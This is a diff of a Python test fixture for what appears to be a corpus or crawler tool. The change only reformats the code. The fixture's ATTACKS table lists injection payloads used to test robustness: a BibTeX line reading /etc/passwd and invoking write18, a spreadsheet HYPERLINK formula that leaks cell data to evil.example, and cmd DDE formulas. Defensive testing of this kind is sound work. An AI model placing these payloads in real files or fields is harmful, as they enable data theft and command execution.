@@ -83,7 +83,7 @@ ATTACKS = {
     "bibtex": "\\input{/etc/passwd} } @string{x} % {\\immediate\\write18{id}} ~ ^ _ # $",
     "csv": '",",\r\n"=1+1","\r"\n;\t|',
     # formulas of spreadsheets
-    "formula": "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")",
+    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
     "formula, plus": "+1+cmd|' /C calc'!A0",
     "formula, minus": "-2+3+cmd|' /C calc'!A0",
     "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -124,7 +124,9 @@ def articles() -> dict[str, Article]:
         "paragraphs": make_article("\n".join(["Here <b>is</b>", WORD, "a line."] * (PARAGRAPHS // 3))),
         "nothing but breaks": make_article("\n" * 5_000 + WORD + "\r\n\r\n\x0b\x0c\u2028"),
         "tags": make_article(f"Below a {WORD}.", tags=tuple(f"<i>{number}" for number in range(10_000))),
-        "authors": make_article(f"Many of one {WORD}.", author="; ".join(f"A. {n} <b>" for n in range(5_000))),
+        "authors": make_article(
+            f"Many of one {WORD}.", author="; ".join(f"A. {n} <b>" for n in range(5_000))
+        ),
     }
 
 
@@ -156,7 +158,9 @@ def fill(path: Path) -> dict[str, int]:
     found = articles()
     with Corpus(path, create=True) as corpus:
         attack = ATTACKS["script"]
-        corpus.plant([Seed(attack, attack, title=attack, url=START, author=attack, site=attack, keywords=(attack,))])
+        corpus.plant(
+            [Seed(attack, attack, title=attack, url=START, author=attack, site=attack, keywords=(attack,))]
+        )
         run = Run.start(corpus, Settings())
         (start,) = run.claim(1)
         links = tuple(
